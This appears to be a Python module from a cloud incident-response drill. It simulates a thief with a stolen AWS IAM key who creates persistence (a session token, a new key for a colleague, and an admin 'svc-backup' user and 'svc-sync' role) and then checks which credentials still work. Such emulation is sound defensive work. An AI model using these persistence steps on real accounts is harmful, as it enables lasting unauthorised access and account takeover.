"""The thief of an IAM credential: what it makes while it can, and what it can do later."""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from botocore.exceptions import ClientError

from playbooks.drills.range.keys import Credentials
from playbooks.drills.range.world import World

EVERYTHING = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
    }
)
# Somebody with broad rights, who has nothing to do with it.
COLLEAGUE = "colleague"
# What AWS answers to who is not let in: denied, unknown or inactive key, session run out.
SHUT = frozenset({"AccessDenied", "InvalidClientTokenId", "ExpiredToken", "UnauthorizedOperation"})


@dataclass
class Thief:
    """Holds the stolen key, and every credential that it makes with it, by what each is."""

    world: World
    stolen: Credentials = field(repr=False)
    held: dict[str, Credentials] = field(default_factory=dict, repr=False)

    def __post_init__(self) -> None:
        """Begin with what was stolen."""
        self.held["the stolen key"] = self.stolen

    def dig_in(self, account: str) -> None:
        """Make every way back in that it can think of."""
        sts = self.world.client("sts", self.stolen)
        self.held["a session of the key"] = _given(sts.get_session_token())
        # Nothing new by IAM's dates but a key, of somebody who was there before.
        key = self.world.client("iam", self.stolen).create_access_key(UserName=COLLEAGUE)
        made = key["AccessKey"]
        self.held["a key of a colleague"] = Credentials(
            made["AccessKeyId"], made["SecretAccessKey"]
        )
        self.make_doors(account)

    def make_doors(self, account: str) -> None:
        """Make a user and a role that may do everything, and hold a credential of each."""
        iam = self.world.client("iam", self.stolen)
        sts = self.world.client("sts", self.stolen)
        iam.create_user(UserName="svc-backup")
        iam.put_user_policy(UserName="svc-backup", PolicyName="all", PolicyDocument=EVERYTHING)
        key = iam.create_access_key(UserName="svc-backup")["AccessKey"]
        self.held["a user it made"] = Credentials(key["AccessKeyId"], key["SecretAccessKey"])
        trust = {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"AWS": f"arn:aws:iam::{account}:root"},
                    "Action": "sts:AssumeRole",
                }
            ],
        }
        iam.create_role(RoleName="svc-sync", AssumeRolePolicyDocument=json.dumps(trust))
        iam.put_role_policy(RoleName="svc-sync", PolicyName="all", PolicyDocument=EVERYTHING)
        arn = f"arn:aws:iam::{account}:role/svc-sync"
        self.held["a role it made"] = _given(sts.assume_role(RoleArn=arn, RoleSessionName="sync"))

    def can(self) -> dict[str, bool]:
        """Return, for each credential that it holds, whether it can do anything with it."""
        return {what: self._works(held) for what, held in self.held.items()}

    def _works(self, held: Credentials) -> bool:
        tries: tuple[Callable[[], Any], ...] = (
            lambda: self.world.client("iam", held).list_users(),
            lambda: self.world.client("ec2", held).describe_instances(),
            lambda: self.world.client("s3", held).list_buckets(),
        )
        return any(_let_in(call) for call in tries)


def _let_in(call: Callable[[], Any]) -> bool:
    try:
        call()
    except ClientError as error:
        if error.response["Error"]["Code"] not in SHUT | {"AuthFailure", "InvalidAccessKeyId"}:
            raise
        return False
    return True


def _given(answer: Any) -> Credentials:
    given = answer["Credentials"]
    return Credentials(given["AccessKeyId"], given["SecretAccessKey"], given["SessionToken"])
